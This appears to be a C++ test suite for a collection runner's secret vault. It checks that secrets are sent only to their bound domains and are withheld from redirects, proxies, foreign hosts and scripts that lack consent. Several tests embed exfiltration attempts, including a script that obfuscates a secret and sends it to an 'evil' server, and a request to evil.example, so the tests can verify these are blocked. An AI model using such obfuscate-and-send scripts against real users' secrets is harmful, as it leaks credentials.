// What collections and servers do to get at secrets of the vault, and what they get.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <atomic>
#include <mutex>

#include "base/encoding.h"
#include "base/json.h"
#include "run/runner.h"
#include "tests/support/raw_server.h"
#include "vault/edits.h"

namespace signet::run {
namespace {

using testing::Contains;
using testing::HasSubstr;
using testing::IsEmpty;
using testing::Not;

constexpr std::string_view kSecret = "Correct-Horse/Battery+Staple";

/// Keeps what a run told, as a reporter without a mask would show it.
class Listener final : public Reporter {
 public:
  void start(const RunInfo&) override {}
  void on(const Event& event, const Stats&, const Failure*) override {
    if (const auto* ended = std::get_if<RequestEnded>(&event)) {
      codes.push_back(ended->exchange->response ? ended->exchange->response->code : 0);
      if (ended->exchange->error) errors.push_back(ended->exchange->error->to_string());
    }
    if (const auto* written = std::get_if<ConsoleWritten>(&event)) {
      std::string line;
      for (const json::value& message : written->messages) line += json::to_text(message) + " ";
      console.push_back(line);
    }
    if (const auto* raised = std::get_if<ExceptionRaised>(&event)) errors.push_back(raised->error.message);
    if (const auto* ended = std::get_if<ScriptEnded>(&event); ended != nullptr && ended->error) {
      errors.push_back(ended->error->message);
    }
  }
  Status finish(const RunSummary&) override { return {}; }

  std::vector<int> codes;
  std::vector<std::string> errors;
  std::vector<std::string> console;
};

/// A server that keeps what it was sent, and answers with what the test says, or by echoing the request.
class Peer {
 public:
  Peer() : server_([this](test::RawConnection& connection) { serve(connection); }) {}

  [[nodiscard]] std::string url(std::string_view path = "/") const { return server_.url(path); }
  [[nodiscard]] std::string port() const {
    const std::string text = server_.url("");
    return text.substr(text.rfind(':') + 1);
  }
  /// All requests so far, as bytes.
  [[nodiscard]] std::string seen() {
    const std::lock_guard lock(mutex_);
    return seen_;
  }
  std::string redirect_to;
  int redirect_code = 307;

 private:
  void serve(test::RawConnection& connection) {
    for (std::string request = connection.read_request(); !request.empty(); request = connection.read_request()) {
      {
        const std::lock_guard lock(mutex_);
        seen_ += request;
      }
      if (!redirect_to.empty()) {
        connection.send(
            fmt::format("HTTP/1.1 {} X\r\nLocation: {}\r\nContent-Length: 0\r\n\r\n", redirect_code, redirect_to));
      } else {
        connection.send(fmt::format("HTTP/1.1 200 OK\r\nX-Echo: {}\r\nContent-Length: {}\r\n\r\n{}", kSecret,
                                    request.size(), request));
      }
    }
  }

  std::mutex mutex_;
  std::string seen_;
  test::RawServer server_;
};

class RunWithAVault : public testing::Test {
 protected:
  RunWithAVault() {
    add("token", kSecret, "127.0.0.1:" + api_.port());
    add("other", "the secret of another collection", "127.0.0.1:" + api_.port());
    grant_.secrets = {"token"};
  }

  void add(std::string_view name, std::string_view value, const std::string& domain) {
    vault::Store::Writer writer{contents_, "machine", 1};
    ASSERT_TRUE(vault::put_value(writer, name, SecretString(value)).ok());
    if (!domain.empty()) contents_.find(name)->domains.push_back(*vault::parse_domain_rule(domain));
  }

  /// Runs one request; `more` are members of the request, `scripts` the code for "prerequest" and "test".
  RunResult run(const std::string& url, const json::object& more = {},
                const std::map<std::string, std::string>& scripts = {}) {
    json::object request = more;
    request["url"] = url;
    json::array events;
    for (const auto& [listen, code] : scripts) {
      events.push_back({{"listen", listen}, {"script", {{"exec", {code}}}}});
    }
    json::object document = {
        {"info", {{"name", "c"}, {"schema", "https://schema.getpostman.com/json/collection/v2.1.0/collection.json"}}},
        {"item", {{{"name", "r"}, {"request", std::move(request)}, {"event", std::move(events)}}}}};
    collection_ = *model::Collection::from_json(std::move(document), "test");
    vault::Access::Sources sources;
    sources.update = [this](const std::function<Status(vault::Store::Writer&)>& change) {
      vault::Store::Writer writer{written_, "machine", 2};
      return change(writer);
    };
    access_.emplace(std::move(contents_), grant_, std::move(sources));
    RunOptions options;
    options.collection = &collection_;
    options.http.proxy = proxy_;
    options.mask = &mask_;
    options.vault = &*access_;
    return run_collection(options, jar_, {&heard_});
  }

  /// Everything told, masked as reporters show it.
  std::string told() {
    std::string all;
    for (const auto* list : {&heard_.errors, &heard_.console}) {
      for (const std::string& text : *list) all += mask_(text) + "\n";
    }
    return all;
  }

  Peer api_;
  Peer evil_;
  vault::Contents contents_;
  vault::Contents written_;
  vault::Grant grant_;
  http::ProxySettings proxy_{.url = {}, .no_proxy = {}, .from_environment = false};
  std::optional<vault::Access> access_;
  model::Collection collection_;
  http::CookieJar jar_;
  Mask mask_;
  Listener heard_;
};

const json::object kInHeader = {{"header", {{{"key", "X-Key"}, {"value", "{{vault:token}}"}}}}};

TEST_F(RunWithAVault, SendsASecretToItsDomain) {
  run(api_.url("/?key={{vault:token}}"),
      {{"method", "POST"},
       {"header", {{{"key", "X-Key"}, {"value", "a {{vault:token}} b"}}}},
       {"body", {{"mode", "raw"}, {"raw", "body {{vault:token}}"}}},
       {"auth",
        {{"type", "basic"},
         {"basic", {{{"key", "username"}, {"value", "u"}}, {{"key", "password"}, {"value", "{{vault:token}}"}}}}}}});
  EXPECT_THAT(heard_.errors, IsEmpty());
  const std::string seen = api_.seen();
  for (const std::string& part : {fmt::format("X-Key: a {} b", kSecret), fmt::format("body {}", kSecret),
                                  "Basic " + base64_encode(fmt::format("u:{}", kSecret))}) {
    EXPECT_THAT(seen, HasSubstr(part));
  }
}

struct Place {
  const char* name;
  const char* path;
  json::object request;
};

class ToAForeignHost : public RunWithAVault, public testing::WithParamInterface<Place> {};

TEST_P(ToAForeignHost, NothingIsSent) {
  run(evil_.url(GetParam().path), GetParam().request);
  EXPECT_EQ(evil_.seen(), "");
  ASSERT_EQ(heard_.errors.size(), 1U);
  EXPECT_THAT(heard_.errors[0], HasSubstr("\"token\" may not go to the host 127.0.0.1:" + evil_.port()));
  EXPECT_THAT(heard_.errors[0], HasSubstr("signet vault edit \"token\" --domain 127.0.0.1:" + evil_.port()));
  EXPECT_THAT(told(), Not(HasSubstr(std::string(kSecret))));
}

INSTANTIATE_TEST_SUITE_P(
    AVault, ToAForeignHost,
    testing::Values(
        Place{"Header", "/", kInHeader}, Place{"Query", "/?k={{vault:token}}", {}},
        Place{"Path", "/x/{{vault:token}}/y", {}},
        Place{"Body", "/", {{"method", "POST"}, {"body", {{"mode", "raw"}, {"raw", "x={{vault:token}}"}}}}},
        Place{"UrlEncoded",
              "/",
              {{"method", "POST"},
               {"body", {{"mode", "urlencoded"}, {"urlencoded", {{{"key", "k"}, {"value", "{{vault:token}}"}}}}}}}},
        Place{"FormData",
              "/",
              {{"method", "POST"},
               {"body", {{"mode", "formdata"}, {"formdata", {{{"key", "k"}, {"value", "{{vault:token}}"}}}}}}}},
        Place{"BasicAuth",
              "/",
              {{"auth",
                {{"type", "basic"},
                 {"basic",
                  {{{"key", "username"}, {"value", "u"}}, {{"key", "password"}, {"value", "{{vault:token}}"}}}}}}}},
        Place{"BearerAuth",
              "/",
              {{"auth", {{"type", "bearer"}, {"bearer", {{{"key", "token"}, {"value", "{{vault:token}}"}}}}}}}}),
    [](const auto& param_info) { return param_info.param.name; });

TEST_F(RunWithAVault, KeepsASecretFromTheHostNamesThatItWouldBeAskedFor) {
  run("http://{{vault:token}}.localhost:" + evil_.port() + "/");
  EXPECT_EQ(evil_.seen(), "");
  EXPECT_EQ(heard_.codes, std::vector<int>{0});
}

class Redirected : public RunWithAVault, public testing::WithParamInterface<int> {};

TEST_P(Redirected, ASecretStaysWithItsDomain) {
  api_.redirect_to = evil_.url("/taken");
  api_.redirect_code = GetParam();
  run(api_.url("/"), kInHeader);
  EXPECT_THAT(api_.seen(), HasSubstr(std::string(kSecret)));
  EXPECT_EQ(evil_.seen(), "");
  EXPECT_THAT(told(), HasSubstr("may not go to the host 127.0.0.1:" + evil_.port()));
}

INSTANTIATE_TEST_SUITE_P(By, Redirected, testing::Values(301, 302, 303, 307, 308));

TEST_F(RunWithAVault, KeepsASecretOutOfTheReferer) {
  api_.redirect_to = evil_.url("/");
  run(api_.url("/?key={{vault:token}}"));
  EXPECT_EQ(evil_.seen(), "");
}

TEST_F(RunWithAVault, FollowsARedirectThatTheSecretDoesNotTake) {
  api_.redirect_to = "http://localhost:" + evil_.port() + "/";
  run(api_.url("/"), {{"auth", {{"type", "bearer"}, {"bearer", {{{"key", "token"}, {"value", "{{vault:token}}"}}}}}}});
  EXPECT_EQ(heard_.codes, std::vector<int>{200});
  EXPECT_THAT(evil_.seen(), HasSubstr("GET / HTTP"));
  EXPECT_THAT(evil_.seen(), Not(HasSubstr(std::string(kSecret))));
}

TEST_F(RunWithAVault, KeepsASecretFromAProxyThatWouldReadIt) {
  proxy_.url = evil_.url("");
  run(api_.url("/"), kInHeader);
  EXPECT_EQ(evil_.seen(), "");
  EXPECT_THAT(told(), HasSubstr("may not go to the proxy"));
}

TEST_F(RunWithAVault, DoesNotAskAProxyToConnectToAForeignHost) {
  proxy_.url = api_.url("");
  run("https://evil.example/", kInHeader);
  EXPECT_EQ(api_.seen(), "");
  EXPECT_THAT(told(), HasSubstr("may not go to the host evil.example"));
}

TEST_F(RunWithAVault, RefusesClearTextToAnotherMachine) {
  contents_.find("token")->domains = {*vault::parse_domain_rule("api.example")};
  run("http://api.example/", kInHeader);
  EXPECT_THAT(told(), HasSubstr("--domain http://api.example"));
}

TEST_F(RunWithAVault, GivesACollectionOnlyWhatItsUserAllowed) {
  run(api_.url("/?{{vault:other}}"));
  EXPECT_EQ(api_.seen(), "");
  EXPECT_THAT(told(), HasSubstr("this collection may not use the vault secret \"other\""));
  EXPECT_THAT(told(), HasSubstr("signet vault consent grant"));
}

TEST_F(RunWithAVault, DoesNotTellACollectionWhichSecretsThereAre) {
  run(api_.url("/"), {},
      {{"test", R"(["other", "missing"].forEach(name => pm.vault.get(name).catch(e => console.log(e.message)));)"}});
  ASSERT_EQ(heard_.console.size(), 2U);
  const auto without_name = [](std::string text, std::string_view name) {
    for (std::size_t at = text.find(name); at != std::string::npos; at = text.find(name)) text.erase(at, name.size());
    return text;
  };
  EXPECT_EQ(without_name(heard_.console[0], "other"), without_name(heard_.console[1], "missing"));
}

TEST_F(RunWithAVault, LetsScriptsReadOnlyWithConsent) {
  run(api_.url("/"), {}, {{"test", "pm.vault.get('token').then(console.log, e => console.log(e.message))"}});
  ASSERT_EQ(heard_.console.size(), 1U);
  EXPECT_THAT(heard_.console[0], HasSubstr("may not let its scripts read the vault secret \"token\""));
}

TEST_F(RunWithAVault, HidesFromScriptsWhatOnlyRequestsMayUse) {
  run(api_.url("/?q={{vault:token}}"), kInHeader,
      {{"test",
        R"(console.log(pm.request.url.toString(), JSON.stringify(pm.request.headers.toObject()), pm.response.text(),
                     JSON.stringify(pm.response.headers.toObject())))"}});
  ASSERT_EQ(heard_.console.size(), 1U);
  EXPECT_THAT(api_.seen(), HasSubstr(std::string(kSecret)));
  EXPECT_THAT(heard_.console[0], Not(HasSubstr(std::string(kSecret))));
  EXPECT_THAT(heard_.console[0], HasSubstr(std::string(kMasked)));
}

TEST_F(RunWithAVault, LetsScriptsReadWithConsent) {
  grant_.scripts_read = true;
  run(api_.url("/"), {}, {{"test", "pm.vault.get('token').then(v => console.log('it is ' + v))"}});
  ASSERT_EQ(heard_.console.size(), 1U);
  EXPECT_EQ(heard_.console[0], fmt::format("it is {} ", kSecret));
  EXPECT_THAT(told(), Not(HasSubstr(std::string(kSecret))));
}

TEST_F(RunWithAVault, SendsNothingElsewhereOnceAScriptHasReadASecret) {
  grant_.scripts_read = true;
  // The script changes the secret so that nothing could recognise it.
  const std::string code = fmt::format(
      R"(pm.vault.get('token').then(v => {{
           const changed = [...v].map(c => c.charCodeAt(0) * 3 + 1).join('-');
           pm.sendRequest('{}?' + changed, e => console.log(e ? 'refused' : 'sent'));
         }}))",
      evil_.url("/"));
  run(api_.url("/"), {}, {{"test", code}});
  EXPECT_EQ(evil_.seen(), "");
  EXPECT_THAT(heard_.console, Contains(HasSubstr("refused")));
}

TEST_F(RunWithAVault, WritesForScriptsOnlyWithConsent) {
  run(api_.url("/"), {}, {{"test", "pm.vault.set('token', 'mine').catch(e => console.log(e.message))"}});
  EXPECT_THAT(heard_.console, Contains(HasSubstr("may not let its scripts change")));
  EXPECT_THAT(written_.entries, IsEmpty());
}

TEST_F(RunWithAVault, LetsScriptsWriteWithConsent) {
  grant_.scripts_write = grant_.scripts_read = true;
  run(api_.url("/"), {},
      {{"test", "pm.vault.set('token', 'a new value').then(() => pm.vault.get('token')).then(console.log)"}});
  ASSERT_NE(written_.find("token"), nullptr);
  EXPECT_EQ(written_.find("token")->value()->expose(), "a new value");
  EXPECT_THAT(heard_.console, Contains(HasSubstr("a new value")));
  EXPECT_THAT(told(), Not(HasSubstr("a new value")));
}

TEST_F(RunWithAVault, MasksWhatScriptsPrintInManyEncodings) {
  grant_.scripts_read = true;
  const std::string code = R"(pm.vault.get('token').then(v => {
    const bytes = Buffer.from(v), hex = bytes.toString('hex');
    const all = { plain: v, base64: btoa(v), base64url: bytes.toString('base64').replace(/\+/g, '-').replace(/\//g, '_'),
      inside: btoa('user:' + v), hex, upper: hex.toUpperCase(), colons: hex.match(/../g).join(':'),
      percent: encodeURIComponent(v), every: [...bytes].map(b => '%' + b.toString(16)).join(''),
      json: JSON.stringify(JSON.stringify({ v })), unicode: [...bytes].map(b => '\\u00' + b.toString(16)).join(''),
      html: [...bytes].map(b => '&#' + b + ';').join(''), decimal: [...bytes].join(','),
      reversed: [...v].reverse().join(''), lines: v.match(/.{1,5}/g).join('\n') };
    for (const name in all) console.log(name, all[name]);
  }))";
  run(api_.url("/"), {}, {{"test", code}});
  ASSERT_EQ(heard_.console.size(), 15U) << told();
  for (const std::string& line : heard_.console) {
    const std::string name = line.substr(0, line.find(' '));
    EXPECT_EQ(mask_(line).find(std::string(kMasked)) != std::string::npos, true) << name;
    EXPECT_TRUE(mask_.find(mask_(line)).empty()) << name;
  }
}

TEST_F(RunWithAVault, FailsARequestWhoseSecretIsNotThere) {
  grant_.secrets = {"*"};
  run(api_.url("/?{{vault:tokem}}"));
  EXPECT_EQ(api_.seen(), "");
  EXPECT_THAT(told(), HasSubstr("did you mean \"token\"?"));
}

TEST_F(RunWithAVault, ResolvesSecretsThroughVariables) {
  collection_ = {};
  run(api_.url("/"), {{"header", {{{"key", "X-Key"}, {"value", "{{indirect}}"}}}}},
      {{"prerequest", "pm.variables.set('indirect', '{{vault:token}}')"}});
  EXPECT_THAT(api_.seen(), HasSubstr(fmt::format("X-Key: {}", kSecret)));
}

}  // namespace
}  // namespace signet::run
